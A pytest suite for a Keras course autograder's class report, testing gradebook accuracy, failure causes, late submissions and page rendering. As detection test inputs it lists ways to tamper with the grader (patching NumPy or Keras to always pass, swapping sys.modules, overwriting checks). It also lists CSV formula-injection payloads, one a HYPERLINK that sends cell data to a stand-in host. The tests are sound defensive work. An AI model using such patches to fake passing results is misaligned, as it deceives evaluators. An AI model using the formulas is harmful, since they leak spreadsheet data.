"""`keras-course report` on the class graded by the suite: its numbers against the gradebook, its causes
against what each submission got wrong, its flags both ways, PostgreSQL like SQLite, and the page in Chromium."""

import csv
import datetime
import json
import re
import shutil
import sqlite3
import subprocess
import sys

import pytest
from nbgrader.api import Gradebook

from autograder.assignments import all_assignments
from autograder.assignments import assignment as find_assignment
from autograder.assignments.submission import Submission, build_notebook
from autograder.course import course_settings
from autograder.failures import failures_of
from autograder.report import ReportError, gather_class, write_report
from autograder.report.classreport import GRADED, NOT_GRADED, NOT_SUBMITTED
from autograder.report.flags import flags_of
from autograder.report.groups import pattern_of
from autograder.settings import COURSE_ROOT
from tests.browser import browser_page, chromium_path
from tests.conftest import the_class
from tests.network import free_port
from tests.postgres import copy_gradebook

# Tests that read the class graded by the suite (tests/conftest.py) are slow; the others take a second.
slow = pytest.mark.slow
CLASS = the_class()
ASSIGNMENTS = [assignment.name for assignment in all_assignments()]


def report_of(graded_class, name, **options):
    (found,) = gather_class(graded_class.course(name), [name], **options)
    return found


@slow
@pytest.mark.parametrize("name", ASSIGNMENTS)
def test_every_number_is_the_gradebooks(graded_class, name):
    """Are the report's scores, statuses and statistics those of nbgrader's gradebook, student by student?"""
    report = report_of(graded_class, name)
    db_url, _ = course_settings(graded_class.course(name))
    students = {submission.student_id for submission in CLASS if submission.assignment == name}
    assert {row.student_id for row in report.students} == students
    with Gradebook(db_url) as gradebook:
        for row in report.students:
            submitted = gradebook.find_submission(name, row.student_id)
            assert row.status == GRADED
            assert row.score == pytest.approx(submitted.score), row.student_id
            for notebook in submitted.notebooks:
                for grade in notebook.grades:
                    if grade.cell_type == "code":
                        assert row.scores[grade.name] == (pytest.approx(grade.score), grade.max_score)
        assert report.max_score == gradebook.find_assignment(name).max_score
    scores = sorted(row.score for row in report.students)
    stats = report.statistics()
    assert stats["min"] == scores[0] and stats["max"] == scores[-1]
    assert stats["mean"] == pytest.approx(sum(scores) / len(scores))
    for test, passed, graded in report.pass_rates():
        assert graded == len(students)
        assert passed == sum(1 for row in report.students if row.scores[test.grade_id][0] >= test.points)


@pytest.mark.parametrize("submission", [s for s in CLASS if s.expected_lost],
                         ids=lambda submission: f"{submission.assignment}-{submission.student_id}")
@slow
def test_every_failure_names_its_cause(graded_class, submission):
    """Does each test a submission lost name why: its check's message, or the earlier cell that failed?"""
    report = report_of(graded_class, submission.assignment)
    (row,) = [row for row in report.students if row.student_id == submission.student_id]
    assert set(row.failures) == set(submission.expected_lost)
    for grade_id, failure in row.failures.items():
        assert failure.reason, (grade_id, failure)
        assert "NameError" not in failure.reason, (grade_id, failure)
        if grade_id in submission.message_contains:
            assert submission.message_contains[grade_id] in f"{failure.message} {failure.hint} {failure.reason}"
        if failure.cause is not None:
            # Only a test that could not run its checks, or ran them on what an answer it needs left unanswered, is
            # put down to an earlier cell.
            assert failure.kind == "error" or failure.cause.unanswered, (grade_id, failure)
    if submission.unanswered:
        # Every test that needs the cell left as released says so: put down to that cell when running it failed,
        # else (a function still raising when called) in the check's own message.
        (cell,) = submission.unanswered
        for grade_id in report.assignment.tests_using(cell):
            failure = row.failures[grade_id]
            if failure.cause is None:
                assert "placeholder is still there" in failure.reason, (grade_id, failure)
            else:  # the cell as released: the placeholder, or starting code to fix (assignment 1's SimpleNet)
                assert failure.cause.cell_id == cell, (grade_id, failure)
                assert "not answered yet" in failure.reason or "failed with" in failure.reason, (grade_id, failure)


def test_failure_groups_ignore_the_numbers_in_messages():
    """Are two messages that differ only in their numbers one group, and two different causes two?"""
    one = pattern_of("wrong output shape: expected (None, 10), got (None, 28, 10).")
    assert one == pattern_of("wrong output shape: expected (None, 5), got (None, 12, 5).")
    assert one != pattern_of("wrong output shape: the layer has no bias.")
    assert pattern_of("conv_output_size(28, 5, stride=2) is wrong") == pattern_of("conv_output_size(7, 3, stride=1) is wrong")
    assert pattern_of("flatten the 28x28x1 images") == pattern_of("flatten the 12x12x3 images") != pattern_of("28 images")
    assert pattern_of("DenseLayer(4, activation='relu') is off") == pattern_of("DenseLayer(5, activation=None) is off")
    # An error's quotes name what is wrong: two missing names are two causes.
    assert pattern_of("name 'model' is not defined", values=False) != pattern_of("name 'x' is not defined", values=False)


@slow
def test_a_cascade_is_one_root_cause_counted_once(graded_class):
    """Is a cell left unanswered one root cause that lists every test it cost, once per student?"""
    report = report_of(graded_class, "01_fix_simplenet")
    (group,) = [group for group in report.root_causes if "no_simplenet" in group.students]
    assert group.students.count("no_simplenet") == 1
    assert group.tests == set(report.assignment.tests_using("simplenet"))


@slow
def test_a_partial_score_is_explained_by_what_the_grader_printed(graded_class):
    """Does a test scored by tier (fewer points, no error) say its accuracy and tier, not its list of mistakes?"""
    reference = graded_class.path("autograded", graded_class.submission("reference", "03_tune_training"))
    notebook = json.loads(reference.read_text())
    # The reference's own output, as if its tier had been one lower: what a 2-of-3 student reads.
    failures = failures_of(notebook, find_assignment("03_tune_training"), {"tuned_accuracy": (2.0, 3.0),
                                                                              "tuned_model_budget": (1.0, 1.0)})
    failure = failures["tuned_accuracy"]
    assert failure.kind == "partial" and failure.cause is None
    assert failure.message.startswith("Test accuracy ") and "Points by tier" in failure.message
    assert "digit" not in failure.message


# Students the gradebook knows who were not graded --------------------------------------------------------


def private_copy(graded_class, name, tmp_path):
    """A copy of the graded course of `name` whose config names its own gradebook, to change without harm."""
    course = tmp_path / "course"
    shutil.copytree(graded_class.course(name), course, symlinks=True)
    (course / "nbgrader_config.py").write_text(
        (course / "nbgrader_config.py").read_text() + f"\nc.CourseDirectory.db_url = 'sqlite:///{course}/gradebook.db'\n"
    )
    return course


# The class was collected a moment ago: a due date a day earlier makes each of its submissions about a day late.
DUE_A_DAY_AGO = datetime.datetime.now(datetime.timezone.utc).replace(tzinfo=None) - datetime.timedelta(days=1)


@pytest.fixture
def course_with_stragglers(graded_class, tmp_path):
    """Assignment 1's graded course, due a day before it was handed in, plus a student who handed in a corrupt
    notebook, one who handed in nothing, and one whose submission has no time (nbgrader records none without
    a timestamp.txt)."""
    course = private_copy(graded_class, "01_fix_simplenet", tmp_path)
    corrupt = course / "submitted" / "corrupt" / "01_fix_simplenet"
    corrupt.mkdir(parents=True)
    (corrupt / "fix_simplenet.ipynb").write_text('{"cells": [')
    with Gradebook(f"sqlite:///{course}/gradebook.db") as gradebook:
        gradebook.update_or_create_assignment("01_fix_simplenet", duedate=DUE_A_DAY_AGO)
        gradebook.update_or_create_student("corrupt")
        gradebook.update_or_create_student("absent")
        gradebook.update_or_create_student("timeless")
        gradebook.add_submission("01_fix_simplenet", "timeless")
    return course


@slow
def test_students_not_graded_or_late_are_counted_with_their_reason(course_with_stragglers):
    """Are a corrupt notebook and a missing submission counted with their reasons and left out of the scores, the
    late ones counted, and a submission without a time not late?"""
    (report,) = gather_class(course_with_stragglers, ["01_fix_simplenet"])
    rows = {row.student_id: row for row in report.students}
    assert rows["corrupt"].status == NOT_GRADED and "is not a valid notebook (not JSON" in rows["corrupt"].reason
    assert rows["absent"].status == NOT_SUBMITTED
    assert report.count(NOT_GRADED) == 1 and report.count(NOT_SUBMITTED) == 1
    assert all(row.student_id not in ("corrupt", "absent") for row in report.graded)
    on_time = {"corrupt", "absent", "timeless"}
    assert {row.student_id for row in report.late} == set(rows) - on_time
    assert all(20 * 3600 < row.seconds_late < 28 * 3600 for row in report.late)
    page = write_report(course_with_stragglers, ["01_fix_simplenet"]).read_text()
    assert "is not a valid notebook (not JSON" in page and 'data-stat="not submitted"><b>1<' in page
    assert f'data-stat="late"><b>{len(report.late)}<' in page
    assert len(re.findall(r"<td>2[0-8] h[^<]*</td>", page)) == len(report.late)  # how late, in hours


@slow
def test_an_assignment_nobody_was_graded_in_says_so(graded_class, tmp_path):
    """Does the page of an assignment without a graded student say so, instead of plots of nothing?"""
    course = private_copy(graded_class, "02_layers_and_cnn", tmp_path)
    with Gradebook(f"sqlite:///{course}/gradebook.db") as gradebook:
        for submission in list(gradebook.assignment_submissions("02_layers_and_cnn")):
            gradebook.remove_submission("02_layers_and_cnn", submission.student_id)
    (report,) = gather_class(course, ["02_layers_and_cnn"])
    assert report.graded == [] and report.statistics() is None
    page = write_report(course, ["02_layers_and_cnn"]).read_text()
    assert "data-nobody-graded" in page and "<img" not in page


def test_a_url_that_names_no_gradebook_is_refused_in_words(tmp_path):
    """Is a URL that is none, a missing file, a database that is no gradebook or a server that does not answer
    refused with a reason, and nothing written?"""
    course = COURSE_ROOT
    with pytest.raises(ReportError, match="is not a database URL"):
        gather_class(course, db_url="gradebook.db")
    with pytest.raises(ReportError, match="there is no gradebook at"):
        gather_class(course, db_url=f"sqlite:///{tmp_path / 'missing.db'}")
    assert not (tmp_path / "missing.db").exists()
    other = tmp_path / "other.db"
    sqlite3.connect(other).execute("create table notes (text)").connection.commit()
    with pytest.raises(ReportError, match="is not an nbgrader gradebook"):
        gather_class(course, db_url=f"sqlite:///{other}")
    with pytest.raises(ReportError, match="cannot read the gradebook at postgresql"):
        gather_class(course, db_url=f"postgresql+psycopg://nobody@127.0.0.1:{free_port()}/course")


@slow
def test_assignment_3_shows_each_models_accuracy_parameters_and_samples(graded_class):
    """Are the reference's measured accuracy, parameters and samples in the report, as its grading found them?"""
    report = report_of(graded_class, "03_tune_training")
    rows = {row.student_id: row for row in report.students}
    reference = graded_class.path("autograded", graded_class.submission("reference", "03_tune_training")).parent
    record = json.loads((reference / "tuned_model.json").read_text())
    accuracy, params, samples = rows["reference"].training
    assert (params, samples) == (record["params"], record["samples_seen"])
    assert accuracy >= report.assignment.training.tiers[-1][0]
    assert rows["untouched"].training is None  # never trained, never measured
    page = write_report(graded_class.course("03_tune_training"), ["03_tune_training"]).read_text()
    assert f"<td class=\"num\">{accuracy:.2%}</td>" in page and f"{params:,}" in page


# Submissions that reach for the grader -----------------------------------------------------------------

_A2 = find_assignment("02_layers_and_cnn")
_A3 = find_assignment("03_tune_training")
_CLASS_LINE = "class DenseLayer(keras.layers.Layer):"
# (what the report must say, the line a student adds before DenseLayer, assignment 2's answer cell)
REACHING = [
    ("uses a private name of the grader", "from autograder.assignments.layers_and_cnn.checks import _compare"),
    ("patches Keras, TensorFlow, NumPy or the course's modules", "np.allclose = lambda *args, **kwargs: True"),
    ("patches Keras, TensorFlow, NumPy or the course's modules", "setattr(keras.Model, 'count_params', lambda self: 1)"),
    ("patches Keras, TensorFlow, NumPy or the course's modules",
     "autograder.assignments.layers_and_cnn.checks.check_dense_forward = print"),
    ("replaces modules in sys.modules", "import sys; sys.modules['autograder.assignments'] = None"),
    ("reaches into IPython's outputs", "import sys; sys.displayhook(2)"),
    ("runs code of its own on every cell", "get_ipython().events.register('pre_run_cell', print)"),
    ("runs code of its own on every cell", "get_ipython().input_transformers_cleanup.append(lambda lines: lines)"),
    ("runs code of its own on every cell", "import sys; sys.addaudithook(print)"),
    ("trains through Keras's class, around the model's own fit", "keras.Model.fit(twin, x_train, y_train)"),
]


def _with_line(tmp_path, line, assignment=_A2, cell="dense_layer", old=_CLASS_LINE):
    submission = Submission("reaching", "reaches for the grader", assignment.name, assignment.notebook,
                            edits={cell: [(old, f"{line}\n{old}")]})
    notebook = build_notebook(submission, COURSE_ROOT / "release" / assignment.name / assignment.filename,
                              COURSE_ROOT / "source" / assignment.name / assignment.filename)
    path = tmp_path / assignment.filename
    path.write_text(json.dumps(notebook))
    return path


@pytest.mark.parametrize("what, line", REACHING, ids=[line for _, line in REACHING])
def test_a_submission_that_reaches_for_the_grader_is_flagged(tmp_path, what, line):
    """Is each way of reaching for the grader listed, with the line that did it?"""
    flags = flags_of("reaching", _with_line(tmp_path, line), _A2)
    assert [(flag.what, flag.line) for flag in flags] == [(what, line)]


def test_a_submission_that_writes_the_graded_model_is_flagged(tmp_path):
    """Is assignment 3's model file, written by the student's own code, flagged?"""
    line = "open('tuned_model.keras', 'wb').write(b'')"
    path = _with_line(tmp_path, line, _A3, "build_model", "def build_model():")
    assert [flag.line for flag in flags_of("reaching", path, _A3)] == [line]


# The class's submissions that reach for the grader: the demo's faker patches Keras, NumPy and the grader, and
# the forgers (autograder/assignments/forgeries.py, and assignment 3's) change the checks, Keras, NumPy, IPython's
# display hook, the budget's counter or the graded files, or train a twin.
FAKER = ("faker", "03_tune_training")


@slow
@pytest.mark.parametrize("name", ASSIGNMENTS)
def test_the_class_is_flagged_only_where_it_reaches_for_the_grader(graded_class, name):
    """Are right, wrong and unanswered submissions left alone, and the faker's and forgers' patches listed?"""
    flags = report_of(graded_class, name).flags
    forgers = {submission.student_id for submission in CLASS if submission.assignment == name
               and submission.forged_in_kernel}
    assert {flag.student_id for flag in flags} == ({FAKER[0]} if name == FAKER[1] else set()) | forgers
    if name == FAKER[1]:
        lines = [flag.line for flag in flags]
        assert "np.argmax = lambda array, axis=None, **kwargs: 0" in lines
        assert "autograder.assignments.tune_training.checks.grade_accuracy = _perfect" in lines
        assert any("sys.modules" in line for line in lines)


# Where the gradebook lives ------------------------------------------------------------------------------


@slow
@pytest.mark.parametrize("name", ASSIGNMENTS)
def test_a_postgresql_gradebook_gives_the_same_report(graded_class, postgres, name):
    """Does the report read a PostgreSQL gradebook as it reads SQLite, number for number?"""
    course = graded_class.course(name)
    target = postgres.new_database(f"report_{name}")
    copy_gradebook(course_settings(course)[0], target)
    from_sqlite = report_of(graded_class, name)
    from_postgres = report_of(graded_class, name, db_url=target)
    assert from_postgres.students == from_sqlite.students
    assert from_postgres.statistics() == from_sqlite.statistics()
    assert from_postgres.root_causes == from_sqlite.root_causes


# The command and the page ----------------------------------------------------------------------------------


@slow
def test_the_command_writes_the_page_and_says_where(graded_class, tmp_path):
    """Does `keras-course report` write the page, its figures and tables, and print the page's path?"""
    course = graded_class.course("01_fix_simplenet")
    out = tmp_path / "report"
    done = subprocess.run([sys.executable, "-m", "autograder", "report", "--course", str(course), "--out", str(out)],
                          capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == f"Class report: {out / 'report.html'}"
    names = {path.name for path in out.iterdir()}
    assert {"report.html", "01_fix_simplenet-scores.png", "01_fix_simplenet-pass-rates.png",
            "01_fix_simplenet-students.csv", "01_fix_simplenet-tests.csv", "01_fix_simplenet-failures.csv"} <= names
    wrong = subprocess.run([sys.executable, "-m", "autograder", "report", "--course", str(course), "04_nothing"],
                           capture_output=True, text=True)
    assert wrong.returncode == 2 and "no assignment 04_nothing" in wrong.stderr


@slow
def test_an_unknown_assignment_is_refused(graded_class):
    with pytest.raises(ReportError, match="has no 03_tune_training"):
        gather_class(graded_class.course("01_fix_simplenet"), ["03_tune_training"])


# Kept after the test, for a person to look at: each assignment's page on a laptop and on a phone.
SCREENSHOTS = COURSE_ROOT / "test-artifacts" / "report"


@slow
def test_the_page_in_chromium(graded_class, tmp_path):
    """Does the page load offline without console errors, every figure render, and show the gradebook's numbers?"""
    chromium = chromium_path()
    shutil.rmtree(SCREENSHOTS, ignore_errors=True)
    SCREENSHOTS.mkdir(parents=True)
    reports = {}
    for name in ASSIGNMENTS:
        page_path = write_report(graded_class.course(name), [name], tmp_path / name)
        reports[name] = (page_path, report_of(graded_class, name))
    with browser_page(chromium, tmp_path) as page:
        problems, outside = [], []
        page.on("console", lambda message: message.type == "error" and problems.append(message.text))
        page.on("pageerror", lambda error: problems.append(str(error)))
        page.on("request", lambda request: request.url.startswith(("file:", "data:")) or outside.append(request.url))
        for name, (page_path, report) in reports.items():
            page.goto(page_path.as_uri())
            rendered = page.eval_on_selector_all("img", "images => images.map(i => i.complete && i.naturalWidth > 0)")
            assert rendered and all(rendered), name
            expected_figures = 3 if report.assignment.training is not None else 2
            assert len(rendered) == expected_figures
            stats = report.statistics()
            for stat in ("mean", "median", "min", "max"):
                shown = page.locator(f'[data-stat="{stat}"] b').inner_text()
                assert float(shown) == pytest.approx(stats[stat], abs=0.005), stat
            assert int(page.locator('[data-stat="late"] b').inner_text()) == len(report.late)
            assert int(page.locator('[data-stat="stopped"] b').inner_text()) == len(report.stopped)
            assert int(page.locator('[data-stat="graded"] b').inner_text()) == len(report.graded)
            for row in report.students:
                score = page.locator(f'tr[data-student="{row.student_id}"] td[data-score]').inner_text()
                assert float(score) == pytest.approx(row.score)
            for test, passed, _ in report.pass_rates():
                assert int(page.locator(f'tr[data-test="{test.grade_id}"] td[data-passed]').inner_text()) == passed
            page.set_viewport_size({"width": 390, "height": 844})  # a phone: nothing wider than the screen
            assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth + 1"), name
            page.screenshot(path=SCREENSHOTS / f"{name}-phone.png")
            page.set_viewport_size({"width": 1400, "height": 1000})
            page.screenshot(path=SCREENSHOTS / f"{name}.png", full_page=True)
        assert problems == [] and outside == []


@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)",
                                     "\tcmd", "\r=1"])
def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path, hostile):
    from autograder.report.html_page import _write_csv

    path = tmp_path / "flags.csv"
    _write_csv(path, ["student", "line", "points"], [[hostile, f"x = {hostile}", -1.5], ["ann", "plain", 3]])
    with open(path, newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[1] == [f"'{hostile}", f"x = {hostile}", "-1.5"]
    assert rows[2] == ["ann", "plain", "3"]
